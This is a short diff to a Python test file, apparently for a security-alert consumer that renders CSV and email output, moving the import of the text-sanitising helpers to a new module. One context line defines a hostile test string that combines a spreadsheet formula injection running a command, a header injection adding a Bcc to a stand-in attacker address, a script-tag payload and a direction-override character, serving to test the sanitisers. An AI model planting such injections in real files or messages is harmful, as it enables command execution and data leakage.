@@ -14,9 +14,9 @@ import pytest
 
 from eve_consumer.correlate import WEIGHTS, correlate, host_score, severity
 from eve_consumer.model import Finding, iso
-from eve_consumer.outputs import clean, csv_cell
 from eve_consumer.outputs.hosts_csv import COLUMNS, render_csv
 from eve_consumer.outputs.mail import build_message
+from sakimori.textsafe import clean, csv_cell
 
 HOSTILE = "=cmd|' /C calc'!A0\r\nBcc: x@evil.example\t<script>alert(1)</script>\u202e"
 
